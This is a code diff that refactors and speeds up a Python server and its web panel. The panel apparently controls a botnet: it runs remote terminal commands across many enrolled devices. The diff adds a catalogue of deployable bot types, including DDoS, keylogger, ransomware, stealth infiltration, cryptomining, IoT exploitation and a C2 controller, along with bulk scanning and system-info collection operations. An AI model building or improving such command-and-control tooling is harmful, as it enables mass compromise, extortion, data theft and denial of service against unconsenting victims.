                 return;
@@ -4264,7 +5000,7 @@ Or manually execute the deployment script.
             performanceMetrics.lastActivity = Date.now();
             
             // Use enhanced terminal API
-            api('/api/terminal/execute', {
+            const request = api('/api/terminal/execute', {
                 method: 'POST',
                 headers: { 'Content-Type': 'application/json' },
                 body: JSON.stringify({ target, command, user_context: 'web_terminal' })
@@ -4338,13 +5074,14 @@ Or manually execute the deployment script.
                 appendToActivityLog(`❌ Error: ${command}`, 'error');
             });
             
-            document.getElementById('commandInput').value = '';
+            els.commandInput.value = '';
+            return request;
         }
         // Also assign to window for consistency
         window.sendTerminalCommand = sendTerminalCommand;
         
         function sendQuickCommand(cmd) {
-            document.getElementById('commandInput').value = cmd;
+            els.commandInput.value = cmd;
             sendTerminalCommand();
         }
         window.sendQuickCommand = sendQuickCommand;
@@ -4371,7 +5108,7 @@ Or manually execute the deployment script.
         ];
         
         function handleCommandKeyPress(event) {
-            const input = document.getElementById('commandInput');
+            const input = els.commandInput;
             
             if (event.key === 'Enter') {
                 event.preventDefault();
@@ -4445,18 +5182,19 @@ Or manually execute the deployment script.
         window.handleCommandKeyPress = handleCommandKeyPress;
         
         function clearTerminal() {
-            document.getElementById('terminal').innerHTML = `
+            els.terminal.innerHTML = `
                 <div class="terminal-line terminal-success">
                     <span class="terminal-timestamp">[CLEARED]</span> 
                     🧹 Terminal cleared - Ready for new commands
                 </div>
             `;
+            terminalLines.clear();
             appendToActivityLog('🧹 Terminal cleared by user');
         }
         window.clearTerminal = clearTerminal;
         
         function exportTerminalLog() {
-            const terminal = document.getElementById('terminal');
+            const terminal = els.terminal;
             const logs = Array.from(terminal.children).map(child => child.textContent).join('\\n');
             const blob = new Blob([logs], { type: 'text/plain' });
             const url = URL.createObjectURL(blob);
@@ -4495,22 +5233,8 @@ Or manually execute the deployment script.
         window.getTerminalHistory = getTerminalHistory;
         
         // Enhanced appendToTerminal to respect auto-scroll
-        function appendToTerminal(message, type = 'info') {
-            const terminal = document.getElementById('terminal');
-            const timestamp = new Date().toLocaleTimeString();
-            const div = document.createElement('div');
-            div.className = `terminal-line terminal-${type}`;
-            div.innerHTML = `<span class="terminal-timestamp">[${timestamp}]</span> ${message}`;
-            terminal.appendChild(div);
-            
-            if (autoScrollEnabled) {
-                terminal.scrollTop = terminal.scrollHeight;
-            }
-            
-            // Keep only last 100 entries for performance
-            while (terminal.children.length > 100) {
-                terminal.removeChild(terminal.firstChild);
-            }
+        function appendToTerminal(message, type = 'info', details) {
+            terminalLines.push(message, type, details);
         }
         window.appendToTerminal = appendToTerminal;
         
@@ -4790,10 +5514,20 @@ Or manually execute the deployment script.
         
         // Add missing switchTab function to global scope
         window.switchTab = switchTab;
+        window.executeBulkAction = debounce(executeBulkAction, BULK_DEBOUNCE_MS);
         
         // Update sendCommand to use enhanced terminal
-        function sendCommand() {
-            sendTerminalCommand();
+        // Bulk actions dispatch through here, one request at a time
+        let sending = false;
+        
+        async function sendCommand() {
+            if (sending) return;
+            sending = true;
+            try {
+                await sendTerminalCommand();
+            } finally {
+                sending = false;
+            }
         }
         
         // Keyboard shortcuts for power users
@@ -4808,7 +5542,7 @@ Or manually execute the deployment script.
             // Ctrl/Cmd + L: Focus command input
             if ((e.ctrlKey || e.metaKey) && e.key === 'l') {
                 e.preventDefault();
-                const input = document.getElementById('commandInput');
+                const input = els.commandInput;
                 if (input) input.focus();
             }
             
@@ -4941,15 +5675,146 @@ Use Tab for autocomplete, ↑/↓ for history navigation
         // Focus command input on page load (if not mobile)
         if (window.innerWidth > 768) {
             setTimeout(() => {
-                const input = document.getElementById('commandInput');
+                const input = els.commandInput;
                 if (input) input.focus();
             }, 500);
         }
         
-        // Auto-refresh and initialization - Optimized intervals to reduce CPU load
-        setInterval(refreshDevices, 15000);  // Reduced from 3s to 15s
-        setInterval(updateUptime, 10000);    // Reduced from 1s to 10s  
-        setInterval(simulateSystemLoad, 30000); // Reduced from 5s to 30s
+        // Deployable bot templates, rendered into the Bots tab from #botCardTpl
+        const BOT_TEMPLATES = [
+            { type: 'mobile', icon: '📱', name: 'Termux Mobile', desc: 'Android with full Termux capabilities' },
+            { type: 'server', icon: '🖥️', name: 'Server Bot', desc: 'Linux server with admin tools' },
+            { type: 'scanner', icon: '🔍', name: 'Network Scanner', desc: 'Network reconnaissance & security' },
+            { type: 'monitor', icon: '📊', name: 'Monitor Bot', desc: 'System monitoring & metrics' },
+            { type: 'proxy', icon: '🌐', name: 'Proxy Bot', desc: 'Traffic routing & anonymization' },
+            { type: 'stealth', icon: '👤', name: 'Stealth Bot', desc: 'Covert operations & infiltration' },
+            { type: 'miner', icon: '⛏️', name: 'Mining Bot', desc: 'Cryptocurrency mining' },
+            { type: 'ddos', icon: '💥', name: 'DDoS Bot', desc: 'Stress testing & load generation' },
+            { type: 'keylogger', icon: '⌨️', name: 'Keylogger Bot', desc: 'Keystroke & data monitoring' },
+            { type: 'ransomware', icon: '🔒', name: 'Ransomware Bot', desc: 'File encryption operations' },
+            { type: 'botnet_controller', icon: '👑', name: 'C2 Controller', desc: 'Command & control master' },
+            { type: 'web_crawler', icon: '🕷️', name: 'Web Crawler', desc: 'Automated scraping & data collection' },
+            { type: 'social_media', icon: '📢', name: 'Social Media Bot', desc: 'Influence & automation operations' },
+            { type: 'iot_bot', icon: '🌐', name: 'IoT Bot', desc: 'IoT device control & exploitation' }
+        ];
+        
+        function renderBotTemplates() {
+            const template = document.getElementById('botCardTpl').content.firstElementChild;
+            const fragment = document.createDocumentFragment();
+            for (const bot of BOT_TEMPLATES) {
+                const card = template.cloneNode(true);
+                card.dataset.botType = bot.type;
+                card.querySelector('.template-icon').textContent = bot.icon;
+                card.querySelector('.template-name').textContent = bot.name;
+                card.querySelector('.template-desc').textContent = bot.desc;
+                fragment.appendChild(card);
+            }
+            // The custom-bot card stays last
+            document.querySelector('.bot-templates-grid').prepend(fragment);
+        }
+        
+        // One delegated listener per button group instead of an inline onclick on every button
+        const BOT_OPERATIONS = {
+            scan: debounce(scanAllNetworks, BULK_DEBOUNCE_MS),
+            collect: debounce(collectSystemInfo, BULK_DEBOUNCE_MS),
+            update: debounce(updateAllBots, BULK_DEBOUNCE_MS),
+            restart: debounce(restartAllServices, BULK_DEBOUNCE_MS)
+        };
+        
+        document.querySelector('.quick-commands').addEventListener('click', e => {
+            const button = e.target.closest('.quick-cmd');
+            if (button) sendQuickCommand(button.dataset.cmd);
+        });
+        document.querySelector('.device-groups').addEventListener('click', e => {
+            const tag = e.target.closest('.group-tag');
+            if (tag) filterByGroup(tag.dataset.group);
+        });
+        
+        // Swap a lazily mounted <template> for its content; false if it was already mounted
+        function mountTemplate(id) {
+            const template = document.getElementById(id);
+            if (!template) return false;
+            template.replaceWith(template.content);
+            return true;
+        }
+        
+        // The Bots tab is only built the first time it is opened
+        function mountBotsTab() {
+            if (!mountTemplate('botsTabTpl')) return;
+            
+            renderBotTemplates();
+            document.querySelector('.bot-templates-grid').addEventListener('click', e => {
+                const card = e.target.closest('.bot-template-card');
+                if (!card) return;
+                if (card.dataset.botType === 'custom') {
+                    showCustomBotCreator();
+                } else {
+                    deployBotType(card.dataset.botType);
+                }
+            });
+            document.querySelector('.network-operations-grid').addEventListener('click', e => {
+                const button = e.target.closest('.operation-btn');
+                if (button) BOT_OPERATIONS[button.dataset.op]();
+            });
+            
+            appendToBotResults('🚀 Bot operations panel initialized');
+            appendToBotResults('📊 Ready to execute network operations');
+        }
+        
+        // One timer drives background polling. Each job returns a signature of what it fetched; while that
+        // stays the same its period doubles, up to POLL_MAX_BACKOFF times the base, and any change resets it.
+        const POLL_MAX_BACKOFF = 2;
+        const pollJobs = [
+            { run: refreshDevices, period: 15000 },
+            { run: simulateSystemLoad, period: 30000 }
+        ].map(job => ({ ...job, delay: job.period, due: Date.now() + job.period, signature: undefined }));
+        let pollTimer = 0;
+        
+        function schedulePoll() {
+            clearTimeout(pollTimer);
+            if (document.hidden) return;  // Nobody is looking; resumes on visibilitychange
+            const next = Math.min(...pollJobs.map(job => job.due));
+            if (next !== Infinity) {
+                pollTimer = setTimeout(runPoll, Math.max(0, next - Date.now()));
+            }
+        }
+        
+        async function runPoll() {
+            const now = Date.now();
+            await Promise.all(pollJobs.filter(job => job.due <= now).map(async job => {
+                job.due = Infinity;  // Not picked up again while running
+                const signature = await job.run().catch(() => undefined);
+                const unchanged = signature !== undefined && signature === job.signature;
+                job.delay = unchanged ? Math.min(job.delay * 2, job.period * POLL_MAX_BACKOFF) : job.period;
+                job.signature = signature;
+                // Jitter keeps several open dashboards from polling the server in lockstep
+                job.due = Date.now() + job.delay * (0.9 + Math.random() * 0.2);
+            }));
+            schedulePoll();
+        }
+        
+        // Stop animations and transitions while the tab is in the background
+        document.addEventListener('visibilitychange', () => {
+            document.body.classList.toggle('paused', document.hidden);
+            if (!document.hidden) {
+                // Data may be stale after a while hidden; refresh every idle job now
+                pollJobs.forEach(job => {
+                    if (job.due !== Infinity) job.due = 0;
+                });
+            }
+            schedulePoll();
+        });
+        
+        // Run the logo glow only while the header is in view
+        if ('IntersectionObserver' in window) {
+            const logo = document.querySelector('.logo');
+            new IntersectionObserver(entries => {
+                logo.classList.toggle('is-visible', entries[0].isIntersecting);
+            }).observe(document.querySelector('header'));
+        }
+        
+        // Auto-refresh and initialization
+        schedulePoll();
         
         // Initialize immediately
         refreshDevices();
@@ -4983,7 +5848,7 @@ Use Tab for autocomplete, ↑/↓ for history navigation
         }, 500);
         
         // Add input field focus detection
-        const commandInput = document.getElementById('commandInput');
+        const commandInput = els.commandInput;
         if (commandInput) {
             commandInput.addEventListener('focus', function() {
                 this.style.borderColor = '#00ff9f';
@@ -4998,7 +5863,7 @@ Use Tab for autocomplete, ↑/↓ for history navigation
             // Add input event to show user is typing
             let typingTimeout;
             commandInput.addEventListener('input', function() {
-                const statusEl = document.getElementById('terminalConnectionStatus');
+                const statusEl = els.terminalConnectionStatus;
                 if (statusEl && this.value.trim()) {
                     statusEl.innerHTML = '<span style="color: #0080ff;">●</span> <span style="color: #0080ff;">Typing...</span>';
                     
@@ -5022,8 +5887,8 @@ Use Tab for autocomplete, ↑/↓ for history navigation
             try {
                 const state = {
                     lastSync: Date.now(),
-                    deviceCount: document.querySelectorAll('.device-item').length,
-                    onlineCount: document.querySelectorAll('.device-status.online').length,
+                    deviceCount: deviceListView.rows.length,
+                    onlineCount: deviceListView.rows.filter(device => device.online).length,
                     commandCount: commandCount,
                     successfulCommands: successfulCommands
                 };
@@ -5053,10 +5918,6 @@ Use Tab for autocomplete, ↑/↓ for history navigation
         appendToActivityLog('📡 50,000+ device support enabled');
         appendToActivityLog('🤖 Real terminal mode with device discovery active');
         
-        // Initialize bot results panel
-        appendToBotResults('🚀 Bot operations panel initialized');
-        appendToBotResults('📊 Ready to execute network operations');
-        
         // Global variable for current bot control
         let currentControlledBot = null;
         
@@ -5176,7 +6037,7 @@ Use Tab for autocomplete, ↑/↓ for history navigation
         
         function appendToBotTerminal(message, type = 'info') {
             const terminal = document.getElementById('botTerminal');
-            const timestamp = new Date().toLocaleTimeString();
+            const timestamp = logTimestamp();
             const div = document.createElement('div');
             div.className = `terminal-line terminal-${type}`;
             div.innerHTML = `<span class="terminal-timestamp">[${timestamp}]</span> ${message}`;
@@ -5351,94 +6212,63 @@ Use Tab for autocomplete, ↑/↓ for history navigation
             </div>
         </div>
     </div>
-    
-    <!-- Modal Styles -->
-    <style>
-    .modal {
-        position: fixed;
-        z-index: 1000;
-        left: 0;
-        top: 0;
-        width: 100%;
-        height: 100%;
-        background-color: rgba(0,0,0,0.8);
-        display: flex;
-        align-items: center;
-        justify-content: center;
-    }
-    
-    .modal-content {
-        background: linear-gradient(135deg, #1a1a2e 0%, #16213e 100%);
-        border: 2px solid #00ff9f;
-        border-radius: 12px;
-        max-width: 90%;
-        max-height: 90%;
-        box-shadow: 0 10px 30px rgba(0, 255, 159, 0.3);
-    }
-    
-    .modal-header {
-        display: flex;
-        justify-content: space-between;
-        align-items: center;
-        padding: 1rem;
-        border-bottom: 1px solid #00ff9f;
-    }
-    
-    .modal-header h3 {
-        margin: 0;
-        color: #00ff9f;
-    }
-    
-    .close {
-        color: #ff0080;
-        font-size: 28px;
-        font-weight: bold;
-        cursor: pointer;
-    }
-    
-    .close:hover {
-        color: #ffffff;
-    }
-    
-    .bot-control-section {
-        border-top: 1px solid #333;
-        padding-top: 0.5rem;
-    }
-    
-    .bot-control-section h5 {
-        margin: 0 0 0.5rem 0;
-        color: #0080ff;
-        font-size: 14px;
-    }
-    
-    .bot-controls button {
-        font-size: 12px;
-        padding: 0.3rem 0.6rem;
-    }
-    </style>
 </body>
 </html>"""
+
+# The page is fully static (live values are filled in client-side), so encode, compress and fingerprint it once
+UI_HTML_BYTES = UI_HTML.encode("utf-8")
+UI_HTML_GZIP = gzip.compress(UI_HTML_BYTES, 6)
+UI_HTML_ETAG = f'"{hashlib.blake2b(UI_HTML_BYTES, digest_size=16).hexdigest()}"'
+# The page sits behind the token, so only the browser may cache it, and it must revalidate
+UI_CACHE_HEADERS = {"ETag": UI_HTML_ETAG, "Cache-Control": "private, no-cache", "Vary": "Accept-Encoding"}
+UI_CSS_CACHE_HEADERS = {"Cache-Control": "public, max-age=31536000, immutable", "Vary": "Accept-Encoding"}
+
+def precompressed_response(request, body, gzipped, content_type, headers):
+    """Serve the pre-gzipped body when the client accepts gzip, else the plain one"""
+    if "gzip" in request.headers.get("Accept-Encoding", ""):
+        return web.Response(body=gzipped, content_type=content_type, charset="utf-8",
+                            headers={**headers, "Content-Encoding": "gzip"})
+    return web.Response(body=body, content_type=content_type, charset="utf-8", headers=headers)
+
 async def route_ui(request):
     """Serve main UI page"""
     token = request.query.get("token", "")
     if token != AUTH_TOKEN:
         return web.Response(text="❌ Unauthorized - Valid token required", status=401)
-    return web.Response(text=UI_HTML, content_type="text/html")
+    if UI_HTML_ETAG in request.headers.get("If-None-Match", ""):
+        return web.Response(status=304, headers=UI_CACHE_HEADERS)
+    return precompressed_response(request, UI_HTML_BYTES, UI_HTML_GZIP, "text/html", UI_CACHE_HEADERS)
+
+async def route_ui_css(request):
+    """Serve the UI stylesheet (no token: it is public, and the hashed URL must stay cacheable)"""
+    return precompressed_response(request, UI_CSS_BYTES, UI_CSS_GZIP, "text/css", UI_CSS_CACHE_HEADERS)
+
+async def _multipart_chunks(field):
+    """Yield a multipart field's body chunk by chunk"""
+    while chunk := await field.read_chunk():
+        yield chunk
 
 async def api_upload(request):
-    """Handle file upload"""
+    """Handle file upload, either as a multipart 'file' field or as a raw body named by ?name="""
     token = request.query.get("token", "")
     if token != AUTH_TOKEN:
         return web.json_response({"error": "unauthorized"}, status=401)
     
     try:
-        reader = await request.multipart()
-        field = await reader.next()
-        
-        if not field or field.name != "file":
-            return web.json_response({"error": "no file field"}, status=400)
+        if request.content_type.startswith("multipart/"):
+            reader = await request.multipart()
+            field = await reader.next()
+            
+            if not field or field.name != "file":
+                return web.json_response({"error": "no file field"}, status=400)
+            
+            filename = field.filename
+            chunks = _multipart_chunks(field)
+        else:
+            # The web UI sends the file itself as the body, with no multipart framing to encode or parse
+            filename = request.query.get("name")
+            chunks = request.content.iter_any()
         
-        filename = field.filename
         if not filename:
             return web.json_response({"error": "no filename"}, status=400)
         
@@ -5453,10 +6283,7 @@ async def api_upload(request):
         # Write file with size limit
         size = 0
         with open(file_path, 'wb') as f:
-            while True:
-                chunk = await field.read_chunk()
-                if not chunk:
-                    break
+            async for chunk in chunks:
                 size += len(chunk)
                 if size > MAX_UPLOAD_SIZE:
                     f.close()
@@ -5465,7 +6292,7 @@ async def api_upload(request):
                 f.write(chunk)
         
         # Add to database
-        db.add_upload(file_id, filename, file_path, size, "web")
+        await db.add_upload_async(file_id, filename, file_path, size, "web")
         
         logging.info(f"File uploaded: {filename} ({size} bytes, ID: {file_id})")
         
@@ -5513,14 +6340,13 @@ async def api_devices(request):
         return web.json_response({"error": "unauthorized"}, status=401)
     
     devices = []
-    async with clients_lock:
-        for client_id, client_info in clients.items():
-            devices.append({
-                "id": client_id,
-                "tags": client_info["meta"].get("tags", []),
-                "exec_allowed": bool(client_info["meta"].get("exec_allowed", False)),
-                "last_seen": client_info["last_seen"]
-            })
+    for client_id, client_info in clients.items():
+        devices.append({
+            "id": client_id,
+            "tags": client_info["meta"].get("tags", []),
+            "exec_allowed": bool(client_info["meta"].get("exec_allowed", False)),
+            "last_seen": client_last_seen.get(client_id, 0)
+        })
     
     return web.json_response({"devices": devices})
 
@@ -5576,7 +6402,7 @@ async def api_device_groups(request):
         return web.json_response({"error": "unauthorized"}, status=401)
     
     if request.method == 'GET':
-        return web.json_response({"groups": device_manager.groups})
+        return web.json_response({"groups": device_manager.get_all_groups()})
     
     elif request.method == 'POST':
         try:
@@ -5593,7 +6419,7 @@ async def api_device_groups(request):
             elif action == "remove":
                 device_manager.remove_device_from_group(device_id, group)
             
-            return web.json_response({"status": "success", "groups": device_manager.groups})
+            return web.json_response({"status": "success", "groups": device_manager.get_all_groups()})
         
         except Exception as e:
             return web.json_response({"error": str(e)}, status=500)
@@ -5658,12 +6484,14 @@ async def api_system_stats(request):
             pass
         
         # Collect enhanced system statistics
+        now = time.time()
+        online = sum(1 for last_seen in client_last_seen.values() if now - last_seen < 60)
         stats = {
             "devices": {
                 "total": len(clients),
-                "online": sum(1 for c in clients.values() if time.time() - c.get("last_seen", 0) < 60),
+                "online": online,
                 "exec_allowed": sum(1 for c in clients.values() if c.get("meta", {}).get("exec_allowed", False)),
-                "offline": len(clients) - sum(1 for c in clients.values() if time.time() - c.get("last_seen", 0) < 60)
+                "offline": len(clients) - online
             },
             "load_balancer": {
                 "active": load_balancer is not None,
@@ -5799,20 +6627,21 @@ async def api_remove_bot(request):
             return web.json_response({"error": "bot_id required"}, status=400)
         
         # Remove from all groups
-        for group in list(device_manager.groups.keys()):
+        for group in device_manager.get_device_groups(bot_id):
             device_manager.remove_device_from_group(bot_id, group)
         
         # Disconnect if online
-        async with clients_lock:
-            if bot_id in clients:
-                try:
-                    await clients[bot_id]["websocket"].send(json.dumps({
-                        "type": "shutdown",
-                        "message": "Bot removed from network"
-                    }))
-                    del clients[bot_id]
-                except:
-                    pass
+        client = clients.get(bot_id)
+        if client:
+            try:
+                await client["websocket"].send(json.dumps({
+                    "type": "shutdown",
+                    "message": "Bot removed from network"
+                }))
+                async with clients_lock:
+                    remove_clients([bot_id])
+            except:
+                pass
         
         db.log_audit(bot_id, "bot_removal", "remove_bot", "success", "web_api")
         
@@ -6236,6 +7065,7 @@ def start_http_server():
     
     # Add routes
     app.router.add_get("/ui", route_ui)
+    app.router.add_get(UI_CSS_PATH, route_ui_css)
     app.router.add_post("/api/upload", api_upload)
     app.router.add_get("/api/uploads", api_list_uploads)
     app.router.add_get("/files/{file_id}", api_serve_file)
@@ -6442,7 +7272,7 @@ class DeviceClient:
             
             try:
                 # Execute in sandbox
-                result = SandboxedExecutor.execute_file(temp_path)
+                result = await SandboxedExecutor.execute_file(temp_path)
                 return result
             finally:
                 # Clean up
@@ -6558,20 +7388,26 @@ async def cleanup_stale_clients():
         try:
             await asyncio.sleep(60)  # Check every minute
             current_time = time.time()
-            stale_clients = []
             
             async with clients_lock:
-                for client_id, client_info in clients.items():
-                    if current_time - client_info["last_seen"] > DEVICE_TIMEOUT:
-                        stale_clients.append(client_id)
-                
+                stale_clients = [client_id for client_id, last_seen in client_last_seen.items()
+                                 if current_time - last_seen > DEVICE_TIMEOUT]
                 for client_id in stale_clients:
                     logging.info(f"Removing stale client: {client_id}")
-                    clients.pop(client_id, None)
+                remove_clients(stale_clients)
                     
         except Exception as e:
             logging.error(f"Cleanup error: {e}")
 
+async def database_optimizer():
+    """Periodically optimize and incrementally vacuum the main database"""
+    while True:
+        try:
+            await asyncio.sleep(900)  # Run every 15 minutes
+            db.optimize()
+        except Exception as e:
+            logging.error(f"Database optimizer error: {e}")
+
 async def memory_optimizer():
     """Periodic memory optimization and resource cleanup"""
     while True:
@@ -6678,8 +7514,8 @@ def main():
             load_balancer = LoadBalancer()
             await load_balancer.start()
             
-            # Start WebSocket server
-            server = await websockets.serve(handle_client, HOST, WS_PORT)
+            # Start WebSocket server; per-connection deflate would recompress every broadcast once per device
+            server = await websockets.serve(handle_client, HOST, WS_PORT, compression=None)
             
             # Start HTTP server
             app = start_http_server()
@@ -6695,6 +7531,7 @@ def main():
             # Start cleanup and optimization tasks
             asyncio.create_task(cleanup_stale_clients())
             asyncio.create_task(memory_optimizer())
+            asyncio.create_task(database_optimizer())
             
             # Start metrics recording task
             async def record_metrics():
@@ -6720,6 +7557,8 @@ def main():
             asyncio.run(start_server())
         except KeyboardInterrupt:
             print("\n🛑 Shutting down server...")
+        finally:
+            db.flush_audit()  # Persist audit entries still waiting for their batch
     
     elif args.mode == "device":
         if not args.id or not args.server: